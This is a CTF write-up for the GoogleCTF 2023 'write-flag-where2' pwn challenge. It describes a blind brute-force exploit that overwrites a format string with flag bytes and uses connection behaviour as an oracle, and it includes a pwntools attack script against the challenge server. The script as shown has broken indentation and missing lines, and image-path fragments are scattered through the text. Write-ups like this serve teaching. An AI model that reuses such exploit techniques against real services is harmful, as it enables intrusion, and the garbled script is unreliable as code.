GoogleCTF 2023 writeup - "write-flag-where2" challenge - a different solution to Google's

1. Introduction to the challenge

  • Category: pwn
  • This challenge is the part 2 of "write-flag-where1" challenge. It is the same binary without the "Give me..." string to overwrite. read more about the previous challenge solution here.

2. Google's solution

Google published their solution to the challenge. They solved it by writing byte 'C', 'T', 'F' and '}' into the code section in order to modify the control flow of the program. While this is a clever solution, I find it "cheaty" because you have to know that 4 bytes will be presented in the flag string. So I come up with another solution which pretty similar to the first challenge - write flag data into the data section of the loaded image, but this time we have to guess each byte of the flag string - like exploiting blind sql injection.

3. Brute-forcing solution

3.1. Brief description

We write each byte of the flag to the first byte of format string "0x%llx %u", then send the next input to guess the written byte. If the guessed character is correct, then the target application will wait for the next input. If it is not correct, the target application will break out of the loop to exit, thus causing the EOFError exception. We can observe that behavior to brute-force the whole string of the flag.

3.2. How?

Ground truth of the solution:• The program will break into the exit() function if the input data does not follow the given format:
    example: "0x5654398190bc 1" is a valid input, and "Cx5654398190bc 1" is not a valid input.
  • When using client_socket.recv() in ourscript to receive data from the remote application:
    • if our input is invalid, the remote application will call exit(0) then our client application will receive a EOF character:
    • If our input is valid, the remote application continues waiting for another input, our client will just hang there waiting for data coming from the remote application :

3.3. Make use of such behavior of the target application

Idea: We can brute force each byte of the flag string by somehow test that byte against the format string. If the tested byte value makes the input string adhere to the format string, then we know we found the correct one.

But how can we do that? The format string is fixed, isn't it? Well, that's when our write-flag-anywhere feature comes in.

We know the base address of chal binary, we know the offset of "0xllx %u" string, so we can write the flag data into such memory space. How should we write data? We can write each byte of the flag data into the first address of the format string by writing byte_offset +1 bytes into format_string_address - byte_offset. The format string will become "<next_flag_byte>x%llx %u".
We have to keep two format specifiers in the format string because the chal program requires 2 numbers extracted from the input:

Then to find out each byte, wejust need to try each printable character until the target application does not send EOF character. Example: Our flag has the format CTF{...} so to find the first byte of the flag we need to try each byte until the payload "Cx<some_address> 0" is sent.

3.4. Implementation

Graph view of my format-string solution:

The exploit script (might take an hour to print out the whole flag 😴):

from pwn import *
import string
import tqdm
import time

seed = string.printable
result = ""
result_index = 0
found_char = ""
    while found_char != "}":
        log.info("flag index " + str(result_index))
        for found_char in tqdm.tqdm(seed):
            context.log_level = 'error' # only print out some thing if error occurs
            client_socket = remote('wfw2.2023.ctfcompetition.com', 1337)
            context.log_level = 'info'

            ### base of chal binary
            data = client_socket.recvuntil(b"but I've removed all the fluff\n")data = client_socket.recvuntil(b"-")
            base_chal = data[:-1]base_chal = int(base_chal, base=16)

            ### format string address
            format_string_offset = 0x20bc
            format_string_address = base_chal + format_string_offset

            data = client_socket.recv()
                data = client_socket.recv()

            payload_1 = hex(format_string_address - result_index).encode('utf-8') + b" " + str(result_index + 1).encode("utf-8")

            time.sleep(2) # give the target application time to do it stuff before continue receiving data
            payload_2 = (found_char + hex(format_string_address - result_index)[1:]).encode('utf-8') + b" " + b"0"
                log.success("found next char: " + found_char)
                result = result + found_char
                log.info("flag update: " + result)
                result_index = result_index + 1
            except EOFError:
                # now we know the testing character is wrong
            context.log_level = 'error' # only print out some thing if error occurs
            context.log_level = 'info'

except KeyboardInterrupt:log.info("\nflag is " + result)

3.5. Result

This is a blind exploitation based on network connection so in took some attempts before we finally found the flag. It failed many times in the middle of the execution so we had to begin right where it left by modifying the result_index variable. Here is the result looks like:
Pasted image 20230626134101.png

All Rights Reserved

Let's register a Viblo Account toget more interesting posts.